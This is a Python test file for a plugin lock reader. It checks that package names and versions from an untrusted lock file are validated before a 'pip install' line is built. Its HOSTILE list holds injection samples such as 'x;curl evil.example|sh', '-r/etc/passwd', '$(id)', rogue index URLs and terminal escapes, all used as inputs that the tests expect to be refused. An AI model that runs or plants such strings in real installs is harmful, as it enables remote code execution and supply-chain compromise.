"""Lines for pip out of a file that anybody may have written hold names and versions, and nothing else."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from packaging.requirements import Requirement

from mt_core.cli.plugins import main
from mt_core.errors import CheckpointError
from mt_core.plugins.lock_file import read_lock
from mt_core.plugins.pins import UNKNOWN, indexes, is_name, is_version, unfit_reason
from mt_train.plugins.lock import compare, pip_line

HOSTILE = (
    "x --index-url https://evil.example/simple",
    "--index-url=https://evil.example",
    "-r/etc/passwd",
    "x;curl evil.example|sh",
    "x @ https://evil.example/x.whl",
    "git+https://evil.example/x",
    "x\n--extra-index-url https://evil.example",
    "x\r-e .",
    "../../x",
    "x[extra]",
    "x\x1b]0;owned\x07",
    "\u202ex",
    "\u017ftorch",  # equals s where case is ignored
    "$(id)",
    "${HOME}",
    "`id`",
    "x # y",
    " x",
    "x ",
    "x\n",
    "",
    "-",
    "x" * 1000,
)
BAD_VERSIONS = (
    *HOSTILE,
    "1.0,<2",
    "1.0; extra",
    "1.*",
    "1.0 --hash=sha256:0",
    "1.0\n",
    " 1.0",
    "9" * 5000,
    "1.0+\u017f",
)
KEYS = ("plugins", "libraries", "sha256")

words = st.one_of(
    st.sampled_from((*HOSTILE, *BAD_VERSIONS)), st.text(max_size=30), st.from_regex(r"[a-z0-9.+! -]{1,12}")
)


@pytest.mark.parametrize("name", ["torch", "mt-plugin-x", "A.b_c", "x1", "1"])
@pytest.mark.parametrize("version", ["1", "2.0.0rc1", "1!2.0", "2.9.0+cu130", "2.9.0a0+git1a2b", "1.0.dev3", UNKNOWN])
def test_names_of_pep_508_and_versions_of_pep_440_are_taken(name: str, version: str) -> None:
    assert unfit_reason({name: version}) is None


@pytest.mark.parametrize("name", HOSTILE)
def test_what_names_no_distribution_is_none(name: str) -> None:
    assert not is_name(name)


@pytest.mark.parametrize("version", BAD_VERSIONS)
def test_what_is_no_version_is_none(version: str) -> None:
    assert not is_version(version)


@given(table=st.dictionaries(words, words, max_size=4))
@example({"torch": "1!2.0"})
def test_a_line_of_what_is_taken_is_words_that_pip_reads_as_names_and_versions(table: dict[str, str]) -> None:
    taken = {name: version for name, version in table.items() if unfit_reason({name: version}) is None}
    line = pip_line(taken, {})
    assert line.isprintable()
    if any(version != UNKNOWN for version in taken.values()):
        command, verb, *pins = shlex.split(line)
        pins = pins[: -2 * len(indexes(taken))] if indexes(taken) else pins
        assert (command, verb) == ("pip", "install")
        read = {requirement.name: str(requirement.specifier) for requirement in map(Requirement, pins)}
        assert read.keys() == {name for name, version in taken.items() if version != UNKNOWN}
        assert all(Requirement(pin).url is None and Requirement(pin).marker is None for pin in pins)


@pytest.mark.parametrize(
    ("label", "folder"),
    [
        ("cpu", "cpu"),
        ("cu128", "cu128"),
        ("rocm6.4", "rocm6.4"),
        ("xpu", "xpu"),
        ("git1a2b", ""),
        ("evil", ""),
        ("", ""),
    ],
)
def test_an_index_is_one_of_torch_s_own_for_a_label_that_it_has(label: str, folder: str) -> None:
    found = indexes({"torch": f"2.9.0+{label}", "x": f"1.0+{label}"})
    assert found == ([f"--extra-index-url https://download.pytorch.org/whl/{folder}"] if folder else [])


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("hostile", ["name", "version"])
def test_a_lock_with_anything_else_in_any_field_is_refused_whole_in_one_line(
    key: str, hostile: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for text in HOSTILE:
        if key == "sha256" and hostile == "version":
            continue  # a hash is compared and never shown
        bad = {text: "1.0"} if hostile == "name" else {"x": text}
        lock = {"plugins": {"mt-core": "0.1.0"}, "libraries": {}, "sha256": {}}
        lock[key] = bad
        (tmp_path / "plugins.lock.json").write_text(json.dumps(lock))
        with pytest.raises(CheckpointError, match="names no distribution or no version"):
            read_lock(tmp_path)
        assert main(["freeze", str(tmp_path)]) == 1
        said = capsys.readouterr()
        assert said.out == ""
        assert said.err.count("\n") == 1
        assert said.err.rstrip("\n").isprintable(), "no sequence for a terminal comes through"


def test_a_lock_of_more_distributions_than_a_machine_has_is_damaged(tmp_path: Path) -> None:
    lock = {"plugins": {f"x{number}": "1" for number in range(5000)}}
    (tmp_path / "plugins.lock.json").write_text(json.dumps(lock))
    with pytest.raises(CheckpointError, match="damaged"):
        read_lock(tmp_path)


def test_what_has_no_known_version_is_in_no_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lock = {"plugins": {"gone-plugin": UNKNOWN, "other-plugin": "1.0"}}
    with pytest.raises(CheckpointError, match=r"pip install other-plugin==1\.0$"):
        compare(lock, "the run x")
    (tmp_path / "plugins.lock.json").write_text(json.dumps(lock))
    assert main(["freeze", str(tmp_path)]) == 0
    said = capsys.readouterr()
    assert said.out == "other-plugin==1.0\n"
    assert "'gone-plugin' has no name or version that pip knows" in said.err
